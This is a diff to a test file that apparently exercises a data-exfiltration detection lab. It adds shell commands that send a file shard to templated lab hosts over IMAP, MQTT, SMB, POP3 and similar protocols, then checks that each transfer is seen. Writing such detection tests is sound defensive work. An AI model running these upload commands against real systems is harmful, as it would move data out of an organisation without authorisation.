@@ -27,6 +27,9 @@ WAYS = {
     "mail, STARTTLS": f'python3 -c \'{_LETTER}s = smtplib.SMTP("{{host}}", 587); s.starttls();'
     ' s.login("u", "p"); s.send_message(m); s.quit()\' $s',
     "mail, TLS": f"python3 -c '{_LETTER}import ssl; s = smtplib.SMTP_SSL(\"{{host}}\", 465); s.send_message(m); s.quit()' $s",
+    "mail, IMAP": "(printf 'Subject: x\\r\\n\\r\\n'; base64 $s) >l && curl -sS -u u:p -T l imap://{host}/Sent",
+    "MQTT": "curl -sS --data-binary @$s mqtt://{host}/a/b",
+    "SMB, curl": "curl -sS -u u1:x -T $s smb://{host}/public/c.bin",
     "SMB, nobody": 'smbclient -N //{host}/public -c "put $s a.bin; get a.bin back; ls" && cmp back $s',
     "SMB, a user, many": "mkdir m && split -b 2M $s m/p && smbclient -U u1%x //{host}/Data"
     ' -c "prompt off; mkdir in; cd in; lcd m; mput p*"',
@@ -55,6 +58,9 @@ def test_every_client_finishes_and_every_way_out_is_seen_in_full(lab: Lab) -> No
     for way, command in WAYS.items():
         done = command.replace("{host}", hosts[way])
         lab.run(f"s={lab.shard}; cd $(mktemp -d); set -o pipefail; {done}", check=True, seconds=180)
+    lab.run(
+        f"whois -h w.{HOST} example.org && curl -sS -u u:p pop3://p.{HOST}/ && curl -sS gopher://g.{HOST}/", check=True
+    )
     chain = lab.finish()
 
     verdict = lab.judge(chain)
@@ -67,14 +73,14 @@ def test_every_client_finishes_and_every_way_out_is_seen_in_full(lab: Lab) -> No
     }
     seen = {way: found.get(host, 0) for way, host in hosts.items()}
     assert {way: blocks for way, blocks in seen.items() if blocks < PARTLY.get(way, planted)} == {}
-    assert {"smtp", "smtps", "smb", "tftp"} <= {fact.protocol for fact in of(chain, Closed)}
+    assert {"smtp", "smtps", "imap", "pop3", "mqtt", "smb", "tftp"} <= {fact.protocol for fact in of(chain, Closed)}
     targets = {str(fact.target) for fact in of(chain, Content) if fact.flow}
     assert {f"drop@{hosts['mail, python']}#f.zip", "/srv/samba/data/in/paa", "a.bin"} <= targets
     assert of(chain, Fault) == []
 
 
 def test_a_letter_to_somebody_elsewhere_goes_elsewhere_whoever_takes_it(lab: Lab) -> None:
-    store = lab.episode.lab.store if hasattr(lab.episode.lab, "store") else ""
+    store = lab.episode.lab.store
     letter = _LETTER.replace("{host}", "elsewhere.net")
     lab.run(
         f"python3 -c '{letter}s = smtplib.SMTP(\"{store}\", 25); s.send_message(m); s.quit()' {lab.shard}", check=True
